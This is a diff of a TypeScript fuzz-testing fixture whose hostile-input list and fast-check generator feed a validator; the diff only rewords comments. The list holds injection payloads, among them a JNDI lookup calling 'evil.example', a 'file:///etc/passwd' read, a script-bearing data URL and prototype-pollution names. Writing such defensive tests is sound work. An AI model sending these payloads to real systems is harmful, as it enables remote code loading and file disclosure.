@@ -1,6 +1,6 @@
 import * as fc from 'fast-check';
 
-/** Texts made by hand: each is an attack on one of the languages that a value could end up in. */
+/** Hand-written texts: each attacks one of the languages that a value could end up in. */
 export const hostileTexts: readonly string[] = [
   // nginx: ending a directive, opening and closing blocks
   ';',
@@ -102,7 +102,7 @@ export const hostileTexts: readonly string[] = [
   '+/api',
   '=/',
   '/',
-  // names that programs trip over
+  // names that break programs
   '__proto__',
   'constructor',
   'toString',
@@ -146,7 +146,7 @@ export const hostileTexts: readonly string[] = [
   '999999d',
   '99999999999999999999',
   'Infinity',
-  // nginx once more: what a grammar that is a little too wide would let through
+  // nginx again: texts that a slightly too wide grammar accepts
   'off;',
   'on',
   'default_server',
@@ -231,7 +231,7 @@ export const hostileTexts: readonly string[] = [
   '${jndi:ldap://evil.example/a}',
   'file:///etc/passwd',
   'data:text/html,<script>',
-  // Unicode that looks like something else, or like nothing
+  // Unicode that looks like other letters, or is invisible
   '\u200b',
   '\ufeff8083',
   'back\u200bend',
@@ -251,7 +251,7 @@ export const hostileTexts: readonly string[] = [
   '\udfff\ud800',
   '\u{10ffff}',
   'ẞackend',
-  // ids, networks and states as the engine would tell them, nearly
+  // ids, networks and states that nearly look like the engine's
   'sha256:',
   'container:',
   'container:..',
@@ -271,7 +271,7 @@ export const hostileTexts: readonly string[] = [
   '0123456789abcdef'.repeat(4),
 ];
 
-/** Near-valid values: what passes a grammar that is a little too wide. */
+/** Near-valid values, which pass a slightly too wide grammar. */
 const innocent = [
   '8000',
   '/files',
@@ -294,7 +294,7 @@ const piece = fc.oneof(
   fc.string({ unit: 'binary', maxLength: 8 }),
 );
 
-/** Generated texts: hostile pieces, innocent ones and noise, in any mixture. */
+/** Generated texts: any mixture of hostile pieces, harmless ones and noise. */
 export const hostileText: fc.Arbitrary<string> = fc.oneof(
   { weight: 5, arbitrary: fc.array(piece, { minLength: 1, maxLength: 5 }).map((pieces) => pieces.join('')) },
   { weight: 2, arbitrary: fc.constantFrom(...hostileTexts) },
